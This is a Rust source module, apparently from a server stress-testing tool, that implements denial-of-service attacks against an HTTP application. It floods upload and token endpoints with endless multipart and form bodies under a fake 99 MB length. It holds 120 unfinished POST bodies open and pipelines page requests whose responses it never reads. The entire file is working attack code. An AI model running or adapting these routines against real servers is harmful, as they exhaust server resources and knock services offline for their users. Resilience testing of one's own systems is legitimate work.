//! Attacks on connections and bodies.

use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use super::target::Target;

/// How many connections an attacker leaves open.
const STALLED: usize = 120;
const PIECE: usize = 64 << 10;

fn head(path: &str, kind: &str) -> String {
    format!("POST {path} HTTP/1.1\r\nhost: x\r\ncontent-type: {kind}\r\ncontent-length: 99000000\r\n\r\n")
}

/// Sends a body until the server closes the connection, again and again.
async fn pour(target: Target, n: u8, path: &str, kind: &str, start: &[u8], piece: &[u8]) {
    while !target.is_over() {
        let Some(mut stream) = target.connect(n).await else { continue };
        let begun = async |stream: &mut TcpStream| {
            stream.write_all(head(path, kind).as_bytes()).await?;
            stream.write_all(start).await
        };
        if begun(&mut stream).await.is_err() {
            continue;
        }
        while !target.is_over() && stream.write_all(piece).await.is_ok() {}
    }
}

pub async fn endless_header(target: Target, n: u8) {
    let start = b"--x\r\nContent-Disposition: form-data; name=\"";
    pour(target, n, "/community/upload", "multipart/form-data; boundary=x", start, &[b'a'; PIECE]).await;
}

pub async fn field_names(target: Target, n: u8) {
    let names = "a=&".repeat(PIECE / 3);
    pour(target, n, "/api/accounts/token/", "application/x-www-form-urlencoded", b"", names.as_bytes()).await;
}

/// Leaves bodies unfinished after most of what a body may hold.
pub async fn unfinished_bodies(target: Target, n: u8) {
    let mut open = Vec::new();
    for _ in 0..STALLED {
        let Some(mut stream) = target.connect(n).await else { break };
        let begun = head("/community/article_publish", "application/json");
        if stream.write_all(begun.as_bytes()).await.is_ok() {
            let body = vec![b' '; PIECE];
            for _ in 0..15 {
                let sent = tokio::time::timeout(Duration::from_millis(20), stream.write_all(&body)).await;
                if !matches!(sent, Ok(Ok(()))) {
                    break;
                }
            }
        }
        open.push(stream);
    }
    tokio::time::sleep_until(target.until.into()).await;
}

/// Asks for pages and reads none of them.
pub async fn silent_readers(target: Target, n: u8) {
    let mut open = Vec::new();
    let request = "GET /docs HTTP/1.1\r\nhost: x\r\n\r\n".repeat(50);
    for _ in 0..STALLED {
        let Some(mut stream) = target.connect(n).await else { break };
        let sent =
            tokio::time::timeout(Duration::from_millis(20), stream.write_all(request.as_bytes())).await;
        if matches!(sent, Ok(Ok(()))) {
            open.push(stream);
        }
    }
    tokio::time::sleep_until(target.until.into()).await;
}
